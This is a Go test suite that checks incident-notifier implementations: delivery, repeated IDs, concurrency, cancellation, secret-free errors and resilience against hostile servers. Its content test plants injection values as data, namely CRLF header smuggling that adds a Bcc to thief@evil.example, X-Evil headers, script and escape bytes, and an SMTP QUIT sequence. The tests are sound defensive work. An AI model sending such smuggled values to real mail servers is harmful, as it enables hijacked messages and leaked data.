// Package notifytest is what every notifier must do, as code: Run for the notifier of a kind, and the ways in which a server
// can be hostile.
package notifytest

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/firstcall-agent/firstcall/incident"
	"github.com/firstcall-agent/firstcall/incident/notify"
)

// Arrival is a message as the other side got it.
type Arrival struct {
	ID   string // the message's own identity there, such as a Message-ID; "" where the kind has none
	Text string // all of it that a person reads, the subject too
}

// Rig is a notifier with the other side behind it.
type Rig struct {
	Notifier notify.Notifier
	Name     string             // as in notify.Env; every error must name it
	Secrets  []string           // no error may hold one
	To       []incident.Contact // of the messages; nil where the notifier has its own recipients
	Arrived  func() []Arrival   // since the rig was made

	// At returns a notifier of the same name with the same secrets that talks to address, which is host:port.
	At func(t *testing.T, address string) notify.Notifier
	// Connections is how many of them one call of Send may make; 0: one. More are for asking what became of the attempt.
	Connections int
	// Hostile are servers beside the general ones, by name, that speak the kind's protocol before they fail.
	Hostile map[string]Hostile
}

// Harness makes a rig; Run calls it for each part of the suite.
type Harness func(t *testing.T) Rig

// patience is how long a call with a hostile server may take on the slowest machine, whose context ends after shortly; against an
// endless one it ends only after three times as long, so that the notifier must have given up by itself.
const (
	shortly  = 300 * time.Millisecond
	patience = 20 * time.Second
	tooMuch  = 64 << 20 // bytes taken off a hostile server
)

// Run checks that the notifier of a harness does what every notifier must.
func Run(t *testing.T, h Harness) {
	t.Run("a message arrives and is proven", func(t *testing.T) { (&suite{t, h(t)}).arrives() })
	t.Run("a repeated message carries the same identity", func(t *testing.T) { (&suite{t, h(t)}).repeated() })
	t.Run("messages are sent at once", func(t *testing.T) { (&suite{t, h(t)}).atOnce() })
	t.Run("a cancelled context sends nothing", func(t *testing.T) { (&suite{t, h(t)}).cancelled() })
	t.Run("hostile content stays content", func(t *testing.T) { (&suite{t, h(t)}).content() })
	t.Run("nobody listens", func(t *testing.T) { (&suite{t, h(t)}).nobody() })
	RunHostile(t, h)
}

// RunHostile is the part of Run that needs no other side that works: the notifier of a harness outlives every server.
func RunHostile(t *testing.T, h Harness) {
	hostile := general()
	maps.Copy(hostile, h(t).Hostile)
	for name, server := range hostile {
		t.Run("a server that "+name, func(t *testing.T) { (&suite{t, h(t)}).hostile(server) })
	}
}

// suite is one part of Run on a rig of its own.
type suite struct {
	*testing.T
	Rig
}

// message returns a notice as the reconciler makes it.
func (s *suite) message(seq int) notify.Message {
	id := fmt.Sprintf("fc-acme-backend-20260302T093000.000Z/customer/status/%d", seq)
	return notify.Message{
		ID: id, Thread: "fc-acme-backend-20260302T093000.000Z", To: s.To, Kind: incident.NoticeStatus, Priority: incident.P2,
		Subject: fmt.Sprintf("[FC-2026-000001] P2 acme: backend er utilgængelig, status %d", seq),
		Text:    "Sagsnummer FC-2026-000001\nPåbegyndt 2. marts 2026 kl. 10.30\nMålt nu: app01 afviser forbindelser på Ærø.\n",
		HTML:    "<!doctype html><p>Sagsnummer <b>FC-2026-000001</b></p><p>Målt nu: app01 afviser forbindelser på Ærø.</p>",
		Date:    time.Date(2026, 3, 2, 9, 30, 0, 0, time.UTC),
	}
}

func (s *suite) send(m notify.Message) {
	s.Helper()
	ctx, cancel := context.WithTimeout(s.Context(), 15*time.Second)
	defer cancel()
	proof, err := s.Notifier.Send(ctx, m)
	if err != nil {
		s.Fatalf("send: %v", err)
	}
	if proof == "" || len(proof) > 1000 || strings.ContainsFunc(proof, func(r rune) bool { return r < ' ' }) {
		s.Errorf("proof %q: want a short line", proof)
	}
	s.secretless("the proof", proof)
}

func (s *suite) arrives() {
	s.send(s.message(1))
	arrived := s.Arrived()
	if len(arrived) != 1 {
		s.Fatalf("%d messages arrived, want one", len(arrived))
	}
	for _, want := range []string{"FC-2026-000001", "backend er utilgængelig", "afviser forbindelser på Ærø"} {
		if !strings.Contains(arrived[0].Text, want) {
			s.Errorf("%q did not arrive in %q", want, arrived[0].Text)
		}
	}
}

func (s *suite) repeated() {
	for range 2 {
		s.send(s.message(1))
	}
	s.send(s.message(2))
	var ids []string
	for _, a := range s.Arrived() {
		ids = append(ids, a.ID)
	}
	slices.Sort(ids)
	if len(ids) != 3 {
		s.Fatalf("%d messages arrived, want 3", len(ids))
	}
	if distinct := len(slices.Compact(slices.Clone(ids))); ids[0] != "" && distinct != 2 {
		s.Errorf("identities %q: want the same for the same message, and only for it", ids)
	}
}

func (s *suite) atOnce() {
	const n = 6
	var senders sync.WaitGroup
	for i := range n {
		senders.Go(func() {
			ctx, cancel := context.WithTimeout(s.Context(), 20*time.Second)
			defer cancel()
			if _, err := s.Notifier.Send(ctx, s.message(i)); err != nil {
				s.Errorf("send: %v", err)
			}
		})
	}
	senders.Wait()
	if got := len(s.Arrived()); got != n {
		s.Errorf("%d messages arrived, want %d", got, n)
	}
}

func (s *suite) cancelled() {
	ctx, cancel := context.WithCancel(s.Context())
	cancel()
	_, err := s.Notifier.Send(ctx, s.message(1))
	s.bad(err)
	if !errors.Is(err, context.Canceled) {
		s.Errorf("the error is not the context's: %v", err)
	}
	if got := len(s.Arrived()); got != 0 {
		s.Errorf("%d messages arrived", got)
	}
}

// content sends what a target or a desk may have written.
func (s *suite) content() {
	m := s.message(1)
	m.Subject = "P2 backend\r\nBcc: thief@evil.example\r\n\r\n<script>\x00\x1b[2J" + strings.Repeat("ø", 2000)
	m.ID += "\r\nX-Evil: 1"
	m.Thread += "\r\nX-Evil: 1"
	m.Text = ".\r\nQUIT\r\n.\n\nFrom here\n" + strings.Repeat("lang linje ", 500) + "\xff\xfe\n"
	s.send(m)
	if got := len(s.Arrived()); got != 1 {
		s.Errorf("%d messages arrived, want one", got)
	}
}

func (s *suite) nobody() {
	address := closedPort(s.T)
	ctx, cancel := context.WithTimeout(s.Context(), patience)
	defer cancel()
	_, err := s.At(s.T, address).Send(ctx, s.message(1))
	s.bad(err)
	if notify.Permanent(err) {
		s.Errorf("a refused connection may pass by itself, but the error is permanent: %v", err)
	}
}

func (s *suite) hostile(h Hostile) {
	server := start(s.T, h.Serve)
	notifier := s.At(s.T, server.address)
	end := shortly
	if h.Endless {
		end = 3 * patience
	}
	ctx, cancel := context.WithTimeout(s.Context(), end)
	defer cancel()
	begin := time.Now()
	_, err := notifier.Send(ctx, s.message(1))
	if took := time.Since(begin); took > patience {
		s.Errorf("it took %s", took)
	}
	s.bad(err)
	if notify.Permanent(err) {
		s.Errorf("a broken server may be mended, but the error is permanent: %v", err)
	}
	connections, written := server.end()
	if allowed := max(s.Connections, 1); connections > allowed {
		s.Errorf("%d connections, want %d at most", connections, allowed)
	}
	if written > tooMuch {
		s.Errorf("%d bytes were taken", written)
	}
}

// bad checks an error that must be there.
func (s *suite) bad(err error) {
	s.Helper()
	if err == nil {
		s.Fatal("no error")
	}
	for e := err; e != nil; e = errors.Unwrap(e) {
		s.secretless("the error", fmt.Sprintf("%v %+v", e, e))
	}
	text := err.Error()
	if !strings.Contains(text, s.Name) {
		s.Errorf("the error does not name the notifier %q: %s", s.Name, text)
	}
	if len(text) > 1000 || strings.ContainsFunc(text, func(r rune) bool { return r < ' ' }) {
		s.Errorf("the error is too long or not on one line: %.200q", text)
	}
	advice := []string{"check", "see ", "set ", "correct", "trust", "use ", "tried again", "may not"}
	if !slices.ContainsFunc(advice, func(a string) bool { return strings.Contains(text, a) }) {
		s.Errorf("the error does not say what to do: %s", text)
	}
}

func (s *suite) secretless(what, text string) {
	s.Helper()
	for _, secret := range s.Secrets {
		if strings.Contains(text, secret) {
			s.Errorf("%s holds a secret", what) // and must not be printed here either
			return
		}
	}
}
